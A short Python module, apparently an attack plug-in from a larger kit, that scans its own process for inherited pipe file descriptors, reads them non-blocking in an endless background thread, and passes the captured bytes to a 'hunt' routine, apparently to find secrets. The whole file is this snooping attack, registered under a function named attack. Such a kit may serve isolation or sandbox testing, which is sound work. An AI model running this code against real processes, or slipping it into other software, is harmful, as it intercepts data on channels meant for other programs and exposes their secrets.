import os
import stat
import threading
import time

from . import _kit


def reply_pipes():
    """Return every pipe of this process that can be written, but standard output and error."""
    found = []
    for number in range(3, 4096):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                os.write(number, b"")
                found.append(number)
        except OSError:
            pass
    return found


def drain():
    while True:
        for number in range(3, 256):
            try:
                if stat.S_ISFIFO(os.fstat(number).st_mode):
                    os.set_blocking(number, False)
                    _kit.hunt(os.read(number, 1 << 16), f"pipe {number}")
            except OSError:
                pass


@_kit.plan
def attack():
    threading.Thread(target=drain, daemon=True).start()
    time.sleep(0.3)
